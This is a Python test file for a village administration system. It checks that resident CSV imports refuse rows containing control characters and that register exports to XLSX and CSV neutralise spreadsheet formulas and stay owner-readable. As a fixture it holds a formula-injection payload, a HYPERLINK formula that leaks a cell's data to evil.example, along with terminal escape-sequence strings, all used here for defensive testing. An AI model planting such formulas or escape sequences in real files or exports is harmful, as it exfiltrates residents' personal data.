"""Text that reaches a terminal, a letter or a spreadsheet (issue 14, items 6, 7 and the exports of 15).

Control characters anywhere in a file (not only its first 4 KB) refuse their row with the column; text
exported to the register's .xlsx stays text (never a live formula) and a CSV cell starting with
= + - @ is neutralised; exports are readable by their owner only.
"""

import csv
import stat

import openpyxl

from appliance.letters.export import export_register
from appliance.letters.register import Register
from appliance.residents.importing import plan_import
from appliance.residents.store import ResidentStore
from appliance.storage.cells import csv_cell, has_control
from tests.residents.conftest import person

FORMULA = '=HYPERLINK("http://evil.example/?leak="&G2,"klik")'


def test_control_characters_past_the_first_4kb_refuse_their_row(semenit_home, write_csv):
    filler = [person(nik=f"34041345019{i:05d}", nama=f"WARGA {i}") for i in range(1, 60)]
    bad = [person(nik="3404134501990001", nama="SRI\x1b[2J RAHAYU"),
           person(nik="3404134501990002", alamat="JETIS\x07"),
           person(nik="3404134501990003", nama_ibu="SUMI\x00YATI"),
           person(nik="3404134501990004", tempatlahir="SLEMAN\u202e")]
    path = write_csv(filler + bad)
    assert path.stat().st_size > 8192
    plan = plan_import(path, ResidentStore.open(semenit_home))
    refused = {(i.row, i.key, i.column.split(" ")[0]) for i in plan.report.refused}
    assert refused == {(61, "import.row.control_chars", "nama"), (62, "import.row.control_chars", "alamat"),
                       (63, "import.row.control_chars", "nama_ibu"), (64, "import.row.control_chars", "tempatlahir")}
    assert not any(has_control(str(v)) for row in plan.rows for v in row if v)
    text = plan.report.format_text()
    assert "\x1b" not in text and "\x07" not in text and "\x00" not in text


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    for value in ("=1+1", "+62812", "-2", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(value).startswith("'")
    assert csv_cell("SRI RAHAYU") == "SRI RAHAYU" and csv_cell(7) == 7 and csv_cell("") == ""


def test_register_export_keeps_text_as_text_and_is_private(semenit_home, tmp_path):
    register = Register(semenit_home)
    register.append("issued", "470/001/TRJ/XI/2026", code="PENGANTAR", title="Surat Keterangan Pengantar",
                    nik="3404135001900001", nama=FORMULA, fields={"keperluan": "+62 812 @x"}, day="2026-11-28",
                    qr="", snapshot={})
    # A name stored before imports refused control characters must not stop every later export.
    register.append("issued", "470/002/TRJ/XI/2026", code="PENGANTAR", title="Surat Keterangan Pengantar",
                    nik="3404135001900002", nama="LAMA\x1bNAMA\x07", fields={"keperluan": "x"}, day="2026-11-28",
                    qr="", snapshot={})
    xlsx, csv_path, count = export_register(register, tmp_path / "agenda.xlsx")
    assert count == 2
    sheet = openpyxl.load_workbook(xlsx)["Buku Agenda"]
    name = sheet["H2"]
    assert name.data_type == "s" and name.value == FORMULA
    assert sheet["H3"].value == "LAMA\ufffdNAMA\ufffd"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    with csv_path.open(encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][7] == "'" + FORMULA and rows[1][8] == "'+62 812 @x"
    for path in (xlsx, csv_path):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
